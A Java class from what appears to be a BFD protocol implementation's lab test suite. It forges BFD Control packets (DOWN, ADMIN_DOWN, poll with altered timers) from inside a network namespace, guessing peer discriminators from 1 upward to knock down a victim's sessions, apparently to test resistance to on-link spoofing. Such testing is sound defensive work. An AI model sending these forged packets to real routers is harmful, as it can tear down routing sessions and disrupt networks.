package dev.culvert.lab;

import dev.culvert.bfd.packet.BfdDiagnostic;
import dev.culvert.bfd.packet.BfdState;
import dev.culvert.bfd.packet.ControlPacket;
import dev.culvert.core.net.InterfaceName;
import dev.culvert.core.net.IpAddress;
import dev.culvert.core.net.Ipv4Address;
import dev.culvert.core.wire.Octets;
import dev.culvert.lab.harness.JavaProgram;
import dev.culvert.lab.net.NetworkNamespace;
import dev.culvert.tun.BfdTransmitter;
import java.util.concurrent.locks.LockSupport;

/**
 * Sends BFD Control packets as anybody on a link can who knows two addresses, with TTL 255, not
 * knowing the victim's discriminator and guessing the peer's from 1 up, as some routers number
 * their sessions. Runs itself as a program inside a namespace.
 */
final class BfdLabForgery {
  private static final int PACKETS_OF_EACH = 200;
  private static final long PAUSE_NANOS = 10_000_000;

  private BfdLabForgery() {}

  /** Sends some hundreds of packets, of each kind in turn, and returns when it has. */
  static void send(NetworkNamespace from, String device, String source, String victim) {
    from.run(
        JavaProgram.command(BfdLabForgery.class, device, source, victim).toArray(String[]::new));
  }

  public static void main(String[] arguments) throws Exception {
    IpAddress victim = Ipv4Address.of(arguments[2]);
    try (BfdTransmitter transmitter =
        BfdTransmitter.open(InterfaceName.of(arguments[0] + ".0"), Ipv4Address.of(arguments[1]))) {
      for (int i = 1; i <= PACKETS_OF_EACH; i++) {
        send(transmitter, victim, packet(BfdState.DOWN, i, 1_000_000, false));
        send(transmitter, victim, packet(BfdState.ADMIN_DOWN, i, 1_000_000, false));
        send(transmitter, victim, packet(BfdState.DOWN, i, 0, true));
        LockSupport.parkNanos(PAUSE_NANOS);
      }
    }
  }

  private static void send(BfdTransmitter transmitter, IpAddress victim, Octets packet) {
    if (!transmitter.send(victim, packet)) {
      throw new IllegalStateException("not sent");
    }
  }

  private static Octets packet(
      BfdState state, int myDiscriminator, long requiredMinRxMicros, boolean poll) {
    return new ControlPacket(
            BfdDiagnostic.NONE,
            state,
            poll,
            false,
            false,
            false,
            false,
            3,
            myDiscriminator,
            0,
            1_000_000,
            requiredMinRxMicros,
            0)
        .encode();
  }
}
